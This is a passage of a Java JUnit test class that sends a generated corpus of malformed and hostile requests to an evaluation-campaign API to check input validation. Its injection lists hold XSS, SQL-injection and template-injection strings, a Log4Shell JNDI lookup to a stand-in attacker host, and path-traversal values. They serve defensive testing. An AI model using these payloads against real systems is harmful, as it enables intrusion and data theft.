package vn.party.evaluation.abuse;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.DynamicContainer.dynamicContainer;
import static org.junit.jupiter.api.DynamicTest.dynamicTest;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.OffsetDateTime;
import java.util.ArrayDeque;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Deque;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import java.util.function.Function;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import java.util.stream.StreamSupport;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DynamicNode;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.TestMethodOrder;
import vn.party.evaluation.EvaluationFlowSupport;

/**
 * Issue 5, "bad input tried": a generated corpus of bad requests against every write endpoint of the domain API
 * ({@code POST /api/v1/campaigns}, {@code POST /api/v1/tasks/{id}/complete|claim}) and the engine REST task
 * completion ({@code POST /engine-rest/task/{id}/complete|submit-form}).
 *
 * <p>Every case must be answered with a 4xx that names the problem (domain API: {@code errors[].field} and
 * {@code reason} when a field is at fault; engine REST: the message names the field), never a 5xx, and must leave
 * nothing behind: the test compares a snapshot of everything a request could touch (campaigns, campaign processes,
 * the year's tasks and process variables, evaluation records, timeline, outbox, engine history details and operation
 * log) before and after each case.
 *
 * <p>Text with markup or SQL in a free-text field is valid text, not bad input: {@link #markupIsKeptVerbatim}
 * shows it is stored as given and comes back verbatim as a JSON string (JSON is escaping-safe). Any HTML view of
 * these texts (e-mails of notification-service, issue 4) must escape them.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class BadInputCorpusTest extends EvaluationFlowSupport {

  /** The campaign whose tasks are abused (a year no other test uses). */
  private static final int YEAR = 2081;

  /** Never opened: a refused campaign body built on it would create it if it were wrongly accepted. */
  private static final int FREE_YEAR = 2082;

  private static final String JSON_TYPE = "application/json";

  private static final List<String> INJECTIONS =
      List.of(
          "<script>alert(1)</script>",
          "\"><img src=x onerror=alert(1)>",
          "'; DROP TABLE evaluation.timeline_entry; --",
          "' OR '1'='1",
          "1; DELETE FROM evaluation.campaign",
          "${7*7}",
          "#{7*7}",
          "{{7*7}}",
          "${jndi:ldap://attacker.example/a}",
          "../../../../etc/passwd",
          "javascript:alert(document.cookie)",
          "<![CDATA[<x>]]>");

  private static final List<String> MALFORMED_JSON =
      List.of(
          "{",
          "}",
          "{\"a\":",
          "{\"a\" 1}",
          "{'selfProposedLevel':'GOOD'}",
          "{\"a\":1,}",
          "[",
          "nul",
          "{\"a\":tru}",
          "{\"a\":\"unterminated}",
          "{\"a\":\"raw\u0001control\"}",
          "\u0000",
          "<xml/>",
          "selfProposedLevel=GOOD",
          "{\"a\":" + "[".repeat(3000) + "]".repeat(3000) + "}",
          "{\"a\":01}",
          "{\"a\":NaN}",
          // trailing content after the object: not JSON either (Jackson ignores it unless told
          // otherwise)
          "{\"a\":1}}",
          "{\"a\":1} x");

  private static final List<String> NOT_AN_OBJECT =
      List.of("[]", "[{\"selfProposedLevel\":\"GOOD\"}]", "\"GOOD\"", "42", "true", "null", "");

  private static final List<Object> WRONG_TYPES =
      List.of(
          5, -1, 3.14, true, false, List.of(), List.of("GOOD"), Map.of(), Map.of("value", "GOOD"));

  private static final List<String> UNKNOWN_LEVELS =
      List.of(
          "SUPER",
          "good",
          "Good",
          " GOOD",
          "GOOD ",
          "HTXSNV",
          "Hoàn thành tốt nhiệm vụ",
          "EXCELLENT,GOOD",
          "GOOD\u0000",
          "ＧＯＯＤ",
          "GOOD\n",
          "null",
          "undefined",
          "NOT COMPLETED");

  private static final List<String> UNKNOWN_DECISIONS =
      List.of(
          "MAYBE", "approve", "APPROVED", "RETURN ", "REJECT", "1", "APPROVE;RETURN", "Phê duyệt");

  private static final List<String> BLANKS = List.of("", "   ", "\t\n");

  private static final List<String> CONTROL =
      List.of(
          "\u0000", "\u0001", "\u0007", "\b", "\u000B", "\f", "\u001B", "\u007F", "\u0085",
          "\u009B");

  /**
   * Stands for a lone surrogate ({@code \\ud800} in the JSON sent): Jackson will not write one, a hostile client
   * will. The database kept it as "?", so the record's checksum was of an altered text (issue 12).
   */
  private static final String LONE_SURROGATE = "\uE000lone-surrogate\uE000";

  /**
   * A lone surrogate, bidirectional override and isolate controls (a text that reads otherwise), and — the outsider's
   * fifth session, finding 9 — the noncharacters U+FFFE and U+FFFF and a tag character (U+E0069): refused.
   */
  private static final List<String> INVALID_CHARACTERS =
      List.of(
          LONE_SURROGATE,
          "\u202A",
          "\u202E",
          "\u2066",
          "\u2069",
          "\uFFFE",
          "\uFFFF",
          "\uDB40\uDC69");

  private static final List<String> UNKNOWN_FIELDS =
      List.of(
          "memberUserId",
          "memberId",
          "year",
          "campaignId",
          "branchCommitteeGroup",
          "organizationCommitteeGroup",
          "__proto__",
          "constructor",
          "<script>alert(1)</script>",
          "' OR '1'='1",
          "SelfProposedLevel",
          "selfProposedLevel ",
          "",
          // the form follows from the member's membership, never from what the member sends (10-KNĐ
          // or 02A/02B)
          "formKind");

  private static final List<String> WRONG_TASK_IDS =
      List.of(
          UUID.randomUUID().toString(),
          "nope",
          "0",
          "'%20OR%20'1'='1",
          "%3Cscript%3E",
          "x".repeat(2000),
          "%E1%BB%87",
          "..",
          "%2e%2e%2fengine-rest%2fuser");

  private enum Kind {
    LEVEL,
    DECISION,
    TEXT,
    COUNT
  }

  /** Not a whole number of votes 0–10 000: text, a fraction, negative, too many, a flag, a list, an object. */
  private static final List<Object> NOT_COUNTS =
      List.of("9", true, 2.5, -1, 10_001, List.of(9), Map.of("value", 9));

  private static final List<String> VOTE_FIELDS =
      List.of(
          "eligibleVoters", "votesExcellent", "votesGood", "votesCompleted", "votesNotCompleted");

  private record Field(String name, Kind kind, boolean required) {}

  /** An open task the corpus is thrown at, with the user who may work on it and a body that would complete it. */
  private record Target(
      String label,
      String taskKey,
      String user,
      List<Field> fields,
      Function<String, Map<String, Object>> baseFor) {

    Field field(String name) {
      return fields.stream().filter(f -> f.name().equals(name)).findFirst().orElseThrow();
    }
  }

  private enum Api {
    DOMAIN,
    ENGINE
  }

  /**
   * What a refusal must look like: one of the statuses; for the domain API the field (and reason) in
   * {@code errors[]}, for the engine REST API tokens its message must contain (any one of {@code mentions}).
   */
  private record Expect(Set<Integer> statuses, String field, String reason, List<String> mentions) {

    static Expect field(int status, String field, String reason) {
      return new Expect(Set.of(status), field, reason, List.of());
    }

    static Expect mentioning(Set<Integer> statuses, String... anyOf) {
      return new Expect(statuses, null, null, List.of(anyOf));
    }
  }

  private record Case(
      String name,
      Api api,
      String method,
      String path,
      String user,
      String contentType,
      byte[] body,
      Expect expect) {}

  private Http http;
  private final Map<String, String> tasks = new LinkedHashMap<>();

  /** Self-reviews used once each by the engine REST cases that would complete a task if wrongly accepted. */
  private final Deque<String> spareSelfReviews = new ArrayDeque<>();

  private final BadInputTally tally = new BadInputTally();
  private int engineBlankMessages;
  private int markupVerbatim;

  private Target self;
  private Target branch;
  private Target decision;

  @BeforeAll
  void prepare() {
    http = new Http(port);
    launchedCampaign(YEAR);
    tasks.put("self-review", taskOf("member1", "self-review", "member1", YEAR));
    for (String member : List.of("member4", "member5")) {
      completeOk(member, taskOf(member, "self-review", member, YEAR), selfCriticism("GOOD"));
      sendResidenceFeedback(member, YEAR, "Tốt");
    }
    tasks.put("branch-review", taskOf("secretary1", "branch-review", "member4", YEAR));
    completeOk(
        "secretary1",
        taskOf("secretary1", "branch-review", "member5", YEAR),
        branchProposes("GOOD"));
    tasks.put("committee-decision", taskOf("committee", "committee-decision", "member5", YEAR));
    for (String member :
        List.of(
            "member2",
            "member3",
            "member10",
            "member11",
            "member12",
            "member13",
            "member14",
            "member15")) {
      spareSelfReviews.add(taskOf(member, "self-review", member, YEAR));
    }

    self =
        new Target(
            "self-review",
            "self-review",
            "member1",
            List.of(
                new Field("selfProposedLevel", Kind.LEVEL, true),
                    new Field("strengths", Kind.TEXT, true),
                new Field("limitations", Kind.TEXT, true),
                    new Field("remedialMeasures", Kind.TEXT, true)),
            // a self-criticism's required sections (issue 14) are in the base, except the field the
            // case is about
            field -> {
              Map<String, Object> base = new LinkedHashMap<>(selfCriticism("GOOD"));
              base.remove(field);
              return base;
            });
    List<Field> branchFields =
        new ArrayList<>(
            List.of(
                new Field("branchProposedLevel", Kind.LEVEL, true),
                new Field("branchComment", Kind.TEXT, false)));
    VOTE_FIELDS.forEach(vote -> branchFields.add(new Field(vote, Kind.COUNT, true)));
    branch =
        new Target(
            "branch-review",
            "branch-review",
            "secretary1",
            branchFields,
            field -> {
              // everything else valid: a field the case is about is missing from the base
              Map<String, Object> base = new LinkedHashMap<>(branchProposes("GOOD"));
              base.remove(field);
              return base;
            });
    decision =
        new Target(
            "committee-decision",
            "committee-decision",
            "committee",
            List.of(
                new Field("decision", Kind.DECISION, true),
                new Field("decidedLevel", Kind.LEVEL, true),
                new Field("decisionComment", Kind.TEXT, true)),
            field ->
                switch (field) {
                  case "decision" ->
                      new LinkedHashMap<>(
                          Map.of("decidedLevel", "GOOD", "decisionComment", "Ý kiến"));
                  case "decidedLevel" -> new LinkedHashMap<>(Map.of("decision", "APPROVE"));
                  default -> new LinkedHashMap<>(Map.of("decision", "RETURN"));
                });
  }

  @TestFactory
  @Order(1)
  Stream<DynamicNode> badInputsAreRefusedWithA4xxNamingTheProblemAndLeaveNothingBehind() {
    List<DynamicNode> groups = new ArrayList<>();
    groups.add(group("campaign: malformed or non-object JSON", campaignMalformed()));
    groups.add(
        group(
            "campaign: wrong content type",
            contentTypes(Api.DOMAIN, "/api/v1/campaigns", "admin", campaignBody(Map.of()))));
    groups.add(
        group("campaign: missing, wrong type, out of range, unknown values", campaignFields()));
    groups.add(
        group(
            "campaign: injection strings in organizationId and regulation", campaignInjections()));
    groups.add(
        group("campaign: not the caller's organization, duplicate, wrong ids", campaignOthers()));
    for (Target target : List.of(self, branch, decision)) {
      groups.add(group("domain " + target.label() + ": fields", domainFieldCases(target)));
    }
    groups.add(
        group(
            "domain self-review: grades, points, 02B items, long texts, the proposal",
            selfReviewCases()));
    groups.add(group("domain task: malformed or non-object JSON", domainMalformed()));
    groups.add(
        group(
            "domain task: wrong content type",
            contentTypes(
                Api.DOMAIN,
                taskPath(self, "complete"),
                "member1",
                "{\"selfProposedLevel\":\"GOOD\"}")));
    groups.add(group("domain task: fields not on the form", domainUnknownFields()));
    groups.add(group("domain task: wrong task ids", domainWrongIds()));
    groups.add(group("domain task: other people's tasks", domainOtherPeople()));
    for (String action : List.of("complete", "submit-form")) {
      for (Target target : List.of(self, branch, decision)) {
        groups.add(
            group(
                "engine " + action + " " + target.label() + ": variables",
                engineFieldCases(target, action)));
      }
      groups.add(
          group(
              "engine " + action + ": malformed JSON and wrong content type",
              engineMalformed(action)));
      groups.add(
          group(
              "engine " + action + ": wrong task ids and other people's tasks",
              engineWrongIds(action)));
    }
    groups.add(
        group(
            "engine: variables that are not on the form (would overwrite process variables)",
            engineNonFormVariables()));
    groups.add(
        group("complaint: grounds, body, who complains, not announced yet", complaintCases()));
    groups.add(
        group(
            "domain level adjustment: fields, malformed JSON, wrong content type",
            adjustmentCases()));
    groups.add(
        group(
            "member roster: fields, malformed JSON, wrong content type, unknown member",
            rosterCases()));
    return groups.stream();
  }

  // ------------------------------------------------------------------------------------------
  // campaign cases

  private Map<String, Object> validCampaign() {
    OffsetDateTime now = OffsetDateTime.now();
    Map<String, Object> body = new LinkedHashMap<>();
    body.put("organizationId", ORG);
    body.put("year", FREE_YEAR);
    body.put("regulation", "QD-366-2025");
    body.put("selfReviewDue", now.plusDays(10).toString());
    body.put("residenceFeedbackDue", now.plusDays(20).toString());
    body.put("branchReviewDue", now.plusDays(30).toString());
    body.put("decisionDue", now.plusDays(40).toString());
    return body;
  }

  /**
   * The fields of Mẫu 02A under 366 (member1 holds no leadership post): each case a complete, valid review with one
   * thing wrong, so the refusal names exactly that field.
   */
  private List<Case> selfReviewCases() {
    List<Case> cases = new ArrayList<>();
    List<Object[]> wrong =
        List.of(
            new Object[] {"a grade that is not a grade", "workStyleGrade", "Tốt", "invalid-grade"},
            new Object[] {"a grade in lower case", "workStyleGrade", "good", "invalid-grade"},
            new Object[] {"a grade as a number", "workStyleGrade", 1, "invalid-grade"},
            new Object[] {"negative points", "workStylePoints", -1, "points-out-of-range"},
            new Object[] {
              "points above the group maximum", "workStylePoints", 31, "points-out-of-range"
            },
            new Object[] {"points as text", "workStylePoints", "5", "not-a-number"},
            new Object[] {"points as a flag", "workStylePoints", true, "not-a-number"},
            new Object[] {
              "general points adding up to 31",
              "selfImprovementCommitmentPoints",
              11,
              "group-total-too-high"
            },
            new Object[] {"task points above 70", "dutiesResultsPoints", 71, "points-out-of-range"},
            new Object[] {"exceeding share 101 %", "exceedingTasksPercent", 101, "out-of-range"},
            new Object[] {
              "exceeding share as text", "exceedingTasksPercent", "30%", "not-a-number"
            },
            new Object[] {"on-time flag as text", "allTasksOnTime", "yes", "not-a-flag"},
            new Object[] {
              "a 02B item without a leadership post",
              "leadershipResults",
              "Lãnh đạo tốt.",
              "not-on-this-form"
            },
            new Object[] {
              "a 02B grade without a leadership post",
              "antiCorruptionGrade",
              "GOOD",
              "not-on-this-form"
            },
            new Object[] {
              "a 10-KNĐ item on an official member's form",
              "probationDuties",
              "Dự sinh hoạt đầy đủ.",
              "not-on-this-form"
            },
            new Object[] {
              "a 10-KNĐ grade on an official member's form",
              "probationDutiesGrade",
              "GOOD",
              "not-on-this-form"
            },
            new Object[] {
              "10-KNĐ points on an official member's form",
              "probationDutiesPoints",
              5,
              "not-on-this-form"
            },
            new Object[] {
              "a criterion text over 20,000 characters",
              "dutiesResults",
              "x".repeat(20_001),
              "too-long"
            },
            new Object[] {
              "a criterion text with control characters",
              "workStyle",
              "a\u0007b",
              "control-characters"
            },
            new Object[] {
              "a criterion text with a lone surrogate",
              "workStyle",
              "a" + LONE_SURROGATE + "b",
              "invalid-characters"
            },
            new Object[] {
              "a criterion text with a right-to-left override",
              "dutiesResults",
              "a\u202Eb",
              "invalid-characters"
            },
            new Object[] {"section III as a number", "shortcomingsFixed", 3, "not-text"},
            // issue 12, finding 10: invisible characters are not counted
            new Object[] {
              "section I as 25 zero-width spaces", "strengths", "\u200b".repeat(25), "required"
            },
            new Object[] {
              "section II with too few visible characters among zero-width ones",
              "limitations",
              "Còn chậm." + "\u200b\u200c\u200d\u2060\ufeff".repeat(5),
              "section-too-short"
            },
            // issue 12, outsiders' recheck: other blanks (fillers, joiners) are not counted either
            new Object[] {
              "section I as 25 Hangul fillers (U+3164)",
              "strengths",
              "\u3164".repeat(25),
              "required"
            },
            new Object[] {
              "section I as Braille blanks, grapheme joiners and Hangul fillers",
              "strengths",
              "\u2800\u034f\u115f\u1160\uffa0\u180e".repeat(5),
              "required"
            },
            new Object[] {
              "section II with too few visible characters among blank fillers and runs of spaces",
              "limitations",
              "Còn" + " ".repeat(20) + "chậm." + "\u2800\u3164".repeat(10),
              "section-too-short"
            },
            new Object[] {
              "civil-service self-proposal not a level",
              "civilServiceSelfProposedLevel",
              "BEST",
              "invalid-level"
            },
            new Object[] {
              "a grade left out once section I is graded", "workStyleGrade", null, "required"
            },
            new Object[] {
              "proposing more than one's own points give",
              "allTasksOnTime",
              false,
              "above-own-assessment"
            });
    for (Object[] w : wrong) {
      Map<String, Object> body = validSelfReview();
      if (w[2] == null) {
        body.remove((String) w[1]);
      } else {
        body.put((String) w[1], w[2]);
      }
      String field = "above-own-assessment".equals(w[3]) ? "selfProposedLevel" : (String) w[1];
      cases.add(
          post(
              "self-review: " + w[0],
              taskPath(self, "complete"),
              "member1",
              write(body),
              Expect.field(400, field, (String) w[3])));
    }
    // the same field twice: refused, not "last wins"
    cases.add(
        post(
            "self-review: the same field twice",
            taskPath(self, "complete"),
            "member1",
            "{\"selfProposedLevel\":\"GOOD\",\"selfProposedLevel\":\"EXCELLENT\"}",
            Expect.field(400, "selfProposedLevel", "duplicate-field")));
    return cases;
  }

  /** Mẫu 02A under 366: general 25/30, task results 65/70, every condition of EXCELLENT. */
  private static Map<String, Object> validSelfReview() {
    Map<String, Object> body = new LinkedHashMap<>();
    for (String item :
        List.of(
            "politicalIdeology",
            "ethicsLifestyle",
            "organizationDiscipline",
            "workStyle",
            "selfImprovementCommitment")) {
      body.put(item + "Grade", "EXCELLENT");
      body.put(item + "Points", 5);
    }
    body.put("dutiesResultsGrade", "EXCELLENT");
    body.put("dutiesResultsPoints", 65);
    body.put("allTasksOnTime", true);
    body.put("exceedingTasksPercent", 30);
    body.put("shortcomingsRemedied", true);
    body.put("selfProposedLevel", "EXCELLENT");
    return body;
  }

  private String campaignBody(Map<String, Object> changes) {
    Map<String, Object> body = validCampaign();
    changes.forEach(
        (key, value) -> {
          if (value == Absent.VALUE) {
            body.remove(key);
          } else {
            body.put(key, value);
          }
        });
    return write(body);
  }

  private enum Absent {
    VALUE
  }

  private List<Case> campaignMalformed() {
    List<Case> cases = new ArrayList<>();
    cases.addAll(malformedBodies("body ", "POST", "/api/v1/campaigns", "admin"));
    cases.add(
        new Case(
            "body not UTF-8",
            Api.DOMAIN,
            "POST",
            "/api/v1/campaigns",
            "admin",
            JSON_TYPE,
            new byte[] {'{', '"', 'o', '"', ':', '"', (byte) 0xC3, (byte) 0x28, '"', '}'},
            Expect.field(400, "body", "malformed")));
    return cases;
  }

  private List<Case> campaignFields() {
    List<Case> cases = new ArrayList<>();
    for (String field : validCampaign().keySet()) {
      cases.add(campaign("missing " + field, Map.of(field, Absent.VALUE), field, "required"));
      cases.add(campaign(field + " = null", nullValue(field), field, "required"));
      cases.add(campaign(field + " = []", Map.of(field, List.of()), field, "wrong-type"));
      cases.add(campaign(field + " = {}", Map.of(field, Map.of()), field, "wrong-type"));
    }
    for (String blank : BLANKS) {
      cases.add(campaignWith("organizationId", blank));
      cases.add(campaignWith("regulation", blank));
    }
    // a number or a flag where text belongs is refused, not stored as "5" (outsider of session 13,
    // HIGH 3)
    for (String text : List.of("organizationId", "regulation")) {
      for (Object scalar : List.of(5, 2.5, true)) {
        cases.add(campaign(text + " = " + scalar, Map.of(text, scalar), text, "wrong-type"));
      }
    }
    cases.add(campaign("year = \"twenty\"", Map.of("year", "twenty"), "year", "invalid-format"));
    cases.add(campaign("year = true", Map.of("year", true), "year", "wrong-type"));
    cases.add(campaign("year = 2017 (before 2018)", Map.of("year", 2017), "year", "out-of-range"));
    cases.add(campaign("year = 2101", Map.of("year", 2101), "year", "out-of-range"));
    cases.add(campaign("year = -1", Map.of("year", -1), "year", "out-of-range"));
    cases.add(campaign("year = 0", Map.of("year", 0), "year", "out-of-range"));
    cases.add(
        post(
            "year = 99999999999 (beyond int)",
            "/api/v1/campaigns",
            "admin",
            campaignBody(Map.of()).replace("\"year\":" + FREE_YEAR, "\"year\":99999999999"),
            Expect.field(400, "year", null)));
    for (String date :
        List.of("selfReviewDue", "residenceFeedbackDue", "branchReviewDue", "decisionDue")) {
      for (Object bad :
          List.of(
              "yesterday",
              "2026-02-30T10:00:00+07:00",
              "2026-12-10",
              "2026-12-10T17:00:00",
              "10/12/2026 17:00",
              true)) {
        cases.add(campaignWith(date, bad));
      }
    }
    OffsetDateTime now = OffsetDateTime.now();
    cases.add(
        campaign(
            "residence feedback due before self-review due",
            Map.of("residenceFeedbackDue", now.plusDays(5).toString()),
            "residenceFeedbackDue",
            "out-of-order"));
    cases.add(
        campaign(
            "branch review due before residence feedback due",
            Map.of("branchReviewDue", now.plusDays(15).toString()),
            "branchReviewDue",
            "out-of-order"));
    for (Object bad : List.of("yesterday", "2026-02-30T10:00:00+07:00", "2026-12-10", true)) {
      cases.add(campaignWith("unitAssessmentDue", bad));
    }
    cases.add(
        campaign(
            "unit assessment due before self-review due",
            Map.of("unitAssessmentDue", now.plusDays(5).toString()),
            "unitAssessmentDue",
            "out-of-order"));
    cases.add(
        campaign(
            "unit assessment due after branch review due",
            Map.of("unitAssessmentDue", now.plusDays(35).toString()),
            "unitAssessmentDue",
            "out-of-order"));
    cases.add(
        campaign(
            "decision due before branch review due",
            Map.of("decisionDue", now.plusDays(25).toString()),
            "decisionDue",
            "out-of-order"));
    for (String regulation :
        List.of(
            "QD-999",
            "qd-366-2025",
            "QD-366-2025 ",
            "QD 366 2025",
            "QD-366-2025\u0000",
            "QĐ-366-2025",
            "x".repeat(21),
            "x".repeat(100_000))) {
      cases.add(campaignWith("regulation", regulation));
    }
    for (String organization :
        List.of(
            "no-such-org",
            "THANH-KHE-TAY",
            "thanh-khe-tay-cb1",
            "thanh khe tay",
            "thanh-khe-tây",
            "thanh\u0000khe",
            "-thanh-khe-tay",
            "a".repeat(101),
            "a".repeat(100_000))) {
      cases.add(campaignWith("organizationId", organization));
    }
    return cases;
  }

  private List<Case> campaignInjections() {
    List<Case> cases = new ArrayList<>();
    for (String injection : INJECTIONS) {
      cases.add(campaignWith("organizationId", injection));
      cases.add(campaignWith("regulation", injection));
    }
    return cases;
  }

  private List<Case> campaignOthers() {
    List<Case> cases = new ArrayList<>();
    Map<String, Object> otherOrganization = Map.of("organizationId", "other-org");
    cases.add(
        post(
            "the grassroots committee opens another organization's campaign",
            "/api/v1/campaigns",
            "committee",
            campaignBody(otherOrganization),
            Expect.mentioning(Set.of(403))));
    for (String[] who :
        new String[][] {
          {"a member", "member1"}, {"a branch committee", "secretary1"}, {"an auditor", "auditor"}
        }) {
      cases.add(
          post(
              who[0] + " opens a campaign",
              "/api/v1/campaigns",
              who[1],
              campaignBody(Map.of()),
              Expect.mentioning(Set.of(403))));
    }
    cases.add(
        post(
            "the same organization and year again",
            "/api/v1/campaigns",
            "committee",
            campaignBody(Map.of("year", YEAR)),
            Expect.mentioning(Set.of(409), String.valueOf(YEAR))));
    for (String id :
        List.of("not-a-uuid", "'%20OR%20'1'='1", "%3Cscript%3E", "1", "x".repeat(500))) {
      cases.add(
          new Case(
              "GET campaign with malformed id " + shown(id),
              Api.DOMAIN,
              "GET",
              "/api/v1/campaigns/" + id,
              "committee",
              null,
              null,
              Expect.field(400, "id", "wrong-type")));
    }
    String unknown = UUID.randomUUID().toString();
    cases.add(
        new Case(
            "GET unknown campaign",
            Api.DOMAIN,
            "GET",
            "/api/v1/campaigns/" + unknown,
            "committee",
            null,
            null,
            Expect.mentioning(Set.of(404), unknown)));
    // a float where an integer year belongs is a wrong type, not a year to round down (own year:
    // were it accepted,
    // it would open a campaign and every later case would meet a 409)
    cases.add(
        post(
            "year = 2099.5 (not an integer)",
            "/api/v1/campaigns",
            "admin",
            campaignBody(Map.of()).replace("\"year\":" + FREE_YEAR, "\"year\":2099.5"),
            Expect.field(400, "year", null)));
    return cases;
  }

  /**
   * POST /api/v1/evaluations/{year}/{memberId}/complaints: the grounds are checked before anything else is (so a
   * bad one is a 400 even before the announcement); a good one before the announcement is a 409 naming the year.
   */
  private List<Case> complaintCases() {
    String path = "/api/v1/evaluations/" + YEAR + "/member1/complaints";
    List<Case> cases = new ArrayList<>();
    for (String body : concat(MALFORMED_JSON, NOT_AN_OBJECT)) {
      cases.add(post("body " + shown(body), path, "member1", body, Expect.mentioning(Set.of(400))));
    }
    cases.add(
        post("grounds missing", path, "member1", "{}", Expect.field(400, "grounds", "required")));
    cases.add(
        post(
            "grounds = null",
            path,
            "member1",
            "{\"grounds\":null}",
            Expect.field(400, "grounds", "required")));
    for (String blank : BLANKS) {
      cases.add(
          post(
              "grounds = " + shown(blank),
              path,
              "member1",
              write(Map.of("grounds", blank)),
              Expect.field(400, "grounds", "required")));
    }
    for (Object wrong : List.of(List.of(), List.of("x"), Map.of(), Map.of("value", "x"))) {
      cases.add(
          post(
              "grounds = " + shown(write(wrong)),
              path,
              "member1",
              write(Map.of("grounds", wrong)),
              Expect.field(400, "grounds", null)));
    }
    // Jackson made "5" and "true" of these and the complaint was stored (outsider of session 13,
    // HIGH 3)
    for (Object scalar : List.of(5, -1, 2.5, true, false)) {
      cases.add(
          post(
              "grounds = " + scalar,
              path,
              "member1",
              write(Map.of("grounds", scalar)),
              Expect.field(400, "grounds", "wrong-type")));
    }
    for (String longText : List.of("a".repeat(4001), "ệ".repeat(4001), "c".repeat(100_000))) {
      cases.add(
          post(
              "grounds = " + longText.length() + " chars",
              path,
              "member1",
              write(Map.of("grounds", longText)),
              Expect.field(400, "grounds", "too-long")));
    }
    for (String control : CONTROL) {
      cases.add(
          post(
              "grounds contains " + shown(control),
              path,
              "member1",
              write(Map.of("grounds", "Khiếu nại " + control + " tiếp")),
              Expect.field(400, "grounds", "control-characters")));
    }
    cases.addAll(
        contentTypes(Api.DOMAIN, path, "member1", write(Map.of("grounds", "Không đồng ý"))));
    String good = write(Map.of("grounds", "Tôi không đồng ý với kết quả."));
    cases.add(
        post(
            "before the announcement",
            path,
            "member1",
            good,
            Expect.mentioning(Set.of(409), String.valueOf(YEAR))));
    for (String user : List.of("member2", "secretary1", "committee", "auditor", "admin")) {
      cases.add(
          post(
              user + " complains about member1's result",
              path,
              user,
              good,
              Expect.mentioning(Set.of(403))));
    }
    cases.add(
        post(
            "year not a number",
            "/api/v1/evaluations/two/member1/complaints",
            "member1",
            good,
            Expect.field(400, "year", "wrong-type")));
    // 2035: a year kept free of campaigns for this case (the complaint helper's range, 2033–2035)
    cases.add(
        post(
            "a year without an evaluation",
            "/api/v1/evaluations/2035/member1/complaints",
            "member1",
            good,
            Expect.mentioning(Set.of(404), "member1")));
    return cases;
  }

  /** A JSON request to the domain API: POST to the path as that user. */
  private static Case post(String name, String path, String user, String body, Expect expect) {
    return jsonCase(name, Api.DOMAIN, "POST", path, user, body, expect);
  }

  /** A JSON request. */
  private static Case jsonCase(
      String name, Api api, String method, String path, String user, String body, Expect expect) {
    return new Case(name, api, method, path, user, JSON_TYPE, utf8(body), expect);
  }

  /** Each body of the domain API's table ({body, field, reason}): refused naming the field and the reason. */
  private static List<Case> refusedBodies(
      String prefix, String method, String path, String user, Object[][] bodies) {
    return Arrays.stream(bodies)
        .map(
            body ->
                jsonCase(
                    prefix + shown((String) body[0]),
                    Api.DOMAIN,
                    method,
                    path,
                    user,
                    (String) body[0],
                    Expect.field(400, (String) body[1], (String) body[2])))
        .toList();
  }

  /** Every body that is not JSON, or not a JSON object, sent to the domain API: refused as a malformed body. */
  private static List<Case> malformedBodies(
      String prefix, String method, String path, String user) {
    return concat(MALFORMED_JSON, NOT_AN_OBJECT).stream()
        .map(
            body ->
                jsonCase(
                    prefix + shown(body),
                    Api.DOMAIN,
                    method,
                    path,
                    user,
                    body,
                    Expect.field(400, "body", "malformed")))
        .toList();
  }

  /** The valid campaign with {@code field} set to {@code value}: refused naming the field. */
  private Case campaignWith(String field, Object value) {
    return campaign(
        field + " = " + shown(String.valueOf(value)), Map.of(field, value), field, null);
  }

  private Case campaign(String name, Map<String, ?> changes, String field, String reason) {
    @SuppressWarnings("unchecked")
    Map<String, Object> typed = (Map<String, Object>) changes;
    return post(
        name, "/api/v1/campaigns", "admin", campaignBody(typed), Expect.field(400, field, reason));
  }

  private static Map<String, Object> nullValue(String field) {
    Map<String, Object> change = new LinkedHashMap<>();
    change.put(field, null);
    return change;
  }

  // ------------------------------------------------------------------------------------- domain
  // task cases

  private String taskPath(Target target, String action) {
    return "/api/v1/tasks/" + tasks.get(target.taskKey()) + "/" + action;
  }

  /** Field by field: wrong types, unknown values, missing, oversized, control characters, injection strings. */
  private List<Case> domainFieldCases(Target target) {
    List<Case> cases = new ArrayList<>();
    for (Map.Entry<String, Map<String, Object>> refused : refusedValues(target).entrySet()) {
      String[] key = refused.getKey().split("\u241F", 3); // name, field, reason
      cases.add(
          post(
              key[0],
              taskPath(target, "complete"),
              target.user(),
              write(refused.getValue()),
              Expect.field(400, key[1], key[2].isEmpty() ? null : key[2])));
    }
    return cases;
  }

  /** name ␟ field ␟ reason → body, for every refused value of every field of the target's form. */
  private Map<String, Map<String, Object>> refusedValues(Target target) {
    Map<String, Map<String, Object>> bodies = new LinkedHashMap<>();
    for (Field field : target.fields()) {
      String invalid =
          switch (field.kind()) {
            case LEVEL -> "invalid-level";
            case DECISION -> "invalid-decision";
            case TEXT -> "not-text";
            case COUNT -> "not-a-count";
          };
      for (Object wrong : field.kind() == Kind.COUNT ? NOT_COUNTS : WRONG_TYPES) {
        bodies.put(
            field.name()
                + " = "
                + shown(write(wrong))
                + "\u241F"
                + field.name()
                + "\u241F"
                + invalid,
            with(target, field, wrong));
      }
      if (field.required()) {
        bodies.put(
            field.name() + " missing\u241F" + field.name() + "\u241Frequired",
            target.baseFor().apply(field.name()));
        bodies.put(
            field.name() + " = null\u241F" + field.name() + "\u241Frequired",
            with(target, field, null));
        for (String blank : BLANKS) {
          bodies.put(
              field.name() + " = " + shown(blank) + "\u241F" + field.name() + "\u241Frequired",
              with(target, field, blank));
        }
      }
      List<String> unknown =
          switch (field.kind()) {
            case LEVEL -> concat(UNKNOWN_LEVELS, INJECTIONS);
            case DECISION -> concat(UNKNOWN_DECISIONS, INJECTIONS);
            case TEXT, COUNT -> List.of();
          };
      for (String value : unknown) {
        bodies.put(
            field.name() + " = " + shown(value) + "\u241F" + field.name() + "\u241F" + invalid,
            with(target, field, value));
      }
      if (field.kind() == Kind.TEXT) {
        for (String longText :
            List.of(
                "a".repeat(4001),
                "ệ".repeat(4001),
